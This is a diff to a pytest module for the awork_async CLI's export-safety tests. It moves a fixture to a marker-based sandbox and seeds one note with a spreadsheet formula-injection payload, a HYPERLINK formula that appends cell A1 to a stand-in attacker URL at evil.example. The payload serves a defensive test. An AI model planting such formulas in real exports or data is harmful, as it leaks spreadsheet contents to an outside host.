@@ -10,11 +10,9 @@ import csv
 import io
 import json
 import socket
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from _helpers import threaded_sandbox
 from typer.testing import CliRunner, Result
 
 from awork_async.cli import app
@@ -24,13 +22,15 @@ OLD = b'{"id": "an export the user wants to keep"}\n'
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 
-@pytest.fixture(scope="module")
-def cli_sandbox() -> Iterator[Sandbox]:
-    with threaded_sandbox(entries=40, seed=11, token="tok-export-safety-0001") as sb:
-        first = sorted(sb.store.entries)[0]
-        sb.store.entries[first]["note"] = FORMULA
-        sb.store.touch()
-        yield sb
+pytestmark = pytest.mark.cli_sandbox(entries=40, seed=11, token="tok-export-safety-0001")
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _a_formula_note(cli_sandbox: Sandbox) -> None:
+    """The module's sandbox holds one note that a spreadsheet would run as a formula."""
+    first = sorted(cli_sandbox.store.entries)[0]
+    cli_sandbox.store.entries[first]["note"] = FORMULA
+    cli_sandbox.store.touch()
 
 
 def export(base_url: str, token: str, *args: str) -> Result:
